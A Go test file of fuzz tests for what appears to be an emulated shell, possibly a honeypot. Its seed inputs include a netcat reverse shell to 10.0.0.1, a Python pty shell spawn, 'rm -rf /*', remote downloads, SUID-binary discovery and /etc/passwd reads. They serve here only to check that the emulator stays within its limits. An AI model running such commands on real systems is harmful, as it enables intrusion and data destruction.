package shell

import (
	"bytes"
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"time"
)

func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"ls -la /tmp", "echo 'a' \"b $HOME\" c\\ d", "a && b || c; d | e 2>&1 >/dev/null",
		"echo $(echo `echo x`)", "echo ${A:-b} $((1+(2*3)))", "x=1 y=$x cmd <<< here", "| x", "echo 'unterminated",
		"cat </etc/passwd >>/tmp/x 2>/dev/null &", "! false", "a |& b", "~root/x ~/y", "#comment\nls",
	} {
		f.Add(s)
	}
	for _, s := range busyboxSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > maxLineBytes {
			return
		}
		list, err := parse(src)
		if err != nil {
			var se *syntaxError
			if !errors.As(err, &se) {
				t.Fatalf("non-syntax error %T", err)
			}
			return
		}
		for _, ao := range list {
			if len(ao.ops) != len(ao.pipes)-1 {
				t.Fatalf("and-or with %d pipes and %d ops", len(ao.pipes), len(ao.ops))
			}
		}
	})
}

// FuzzExec runs whole lines through the interpreter: whatever the input,
// it must end, stay inside the overlay caps and not panic.
func FuzzExec(f *testing.F) {
	for _, s := range []string{
		"cd /tmp; mkdir -p a/b; echo x > a/b/c; cat a/b/c | wc -c", "ls -la / | grep root | awk '{print $3}'",
		"wget http://x/y; curl -O http://x/z", "echo $(( 7 / 0 ))", "sh -c 'sh -c \"echo hi\"'", "cat /proc/cpuinfo | head",
		"rm -rf /*; ls /", "printf '%s\\n' a b | sort -r | uniq -c", "cut -d: -f1 /etc/passwd", "ps aux; ps -ef; ps",
		"ssh -V; ssh -p 22 root@10.0.0.1", "nc -lvp 4444; nc 10.0.0.1 4444 -e /bin/sh", "python3 -c 'import sys;print(sys.version)'",
		"python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", "perl -e 'print \"a\\n\"'", "sudo -l; sudo -V; sudo -n id",
		"systemctl status ssh; systemctl list-units; service --status-all", "find / -perm -4000 -type f -exec ls -la {} \\;",
		"find . -maxdepth 2 -name '*.sh' -user root -writable", "getent passwd root; ss -tlnp; lsblk; mount; locale",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > maxLineBytes || strings.Contains(src, "sleep") {
			return
		}
		sh := newShell(Config{Seed: testSeed}, func() time.Time { return testNow })
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		sh.Exec(ctx, src, io.Discard, io.Discard)
		if sh.fs.bytes > maxOverlayBytes || sh.out > maxOutputBytes {
			t.Fatalf("caps exceeded: overlay %d, output %d", sh.fs.bytes, sh.out)
		}
	})
}

func FuzzLineEditor(f *testing.F) {
	f.Add([]byte("ls\r\n"))
	f.Add([]byte("ab\x7f\x08\x15\x1b[A\x1bOB\x03\x04"))
	f.Add([]byte("\x1b[1;5Cx\ty\r"))
	f.Fuzz(func(t *testing.T, in []byte) {
		ed := &lineEditor{}
		for _, b := range in {
			ev := ed.feed(b)
			if len(ed.buf) > maxInputLine {
				t.Fatalf("line grew to %d bytes", len(ed.buf))
			}
			if bytes.IndexByte(ed.buf, 0x1b) >= 0 {
				t.Fatal("escape byte kept in the line")
			}
			if ev == evLine || ev == evInterrupt {
				ed.buf = ed.buf[:0]
			}
			ed.pending = ed.pending[:0]
		}
	})
}

// FuzzInteractive drives the whole terminal loop with raw bytes.
func FuzzInteractive(f *testing.F) {
	f.Add([]byte("echo 'a\r\x03ls\r\x04"))
	f.Add([]byte("cat <<\r\x1b[D\x7f\r"))
	f.Fuzz(func(t *testing.T, in []byte) {
		if len(in) > 8192 || bytes.Contains(in, []byte("sleep")) {
			return
		}
		sh := newShell(Config{Seed: testSeed}, func() time.Time { return testNow })
		term := &scripted{in: bytes.NewReader(in)}
		if err := sh.Interactive(context.Background(), term); err != nil {
			t.Fatal(err)
		}
	})
}
